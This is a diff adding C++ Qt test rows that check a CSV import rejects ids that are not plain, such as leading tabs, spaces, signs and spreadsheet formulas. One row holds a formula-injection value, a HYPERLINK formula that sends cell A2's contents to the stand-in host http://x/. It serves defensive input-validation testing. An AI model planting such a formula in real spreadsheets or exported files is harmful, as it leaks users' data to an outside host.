@@ -498,6 +498,12 @@ void TestStore::importNamesFileLineAndColumn_data()
         ",Acme annual report,Acme Inc.," + QByteArray::fromStdString(shippedSource->url)) << false << 2 << "source_url" << QString::fromStdString(shippedSource->id);
     QTest::newRow("read in a non-seed") << header + QByteArray(good).replace("acme-10k,,", "acme-10k,acme-10k,") << false << 2 << "read_in" << "not a seed";
     QTest::newRow("shipped id, other value") << header + QByteArray(good).replace("u1,", QByteArray::fromStdString(shipped.id) + ",") << false << 2 << "id" << "shipped figure";
+    QTest::newRow("formula id") << header + QByteArray(good).replace("u1,capex", "\"=HYPERLINK(\"\"http://x/?d=\"\"&A2,\"\"click\"\")\",capex") << false << 2 << "id" << "plain id";
+    QTest::newRow("tab before id") << header + QByteArray(good).replace("u1,capex", "\"\tu1\",capex") << false << 2 << "id" << "plain id";
+    QTest::newRow("guarded minus id") << header + QByteArray(good).replace("u1,capex", "'-u1,capex") << false << 2 << "id" << "plain id";
+    QTest::newRow("id with a space") << header + QByteArray(good).replace("u1,capex", "my u1,capex") << false << 2 << "id" << "plain id";
+    QTest::newRow("formula source id") << header + QByteArray(good).replace("acme-10k,,", "@SUM(A1),,") << false << 2 << "source_id" << "plain id";
+    QTest::newRow("read-in id not plain") << header + QByteArray(good).replace("acme-10k,,", "acme-10k,+seed,") << false << 2 << "read_in" << "plain id";
 }
 
 void TestStore::importNamesFileLineAndColumn()
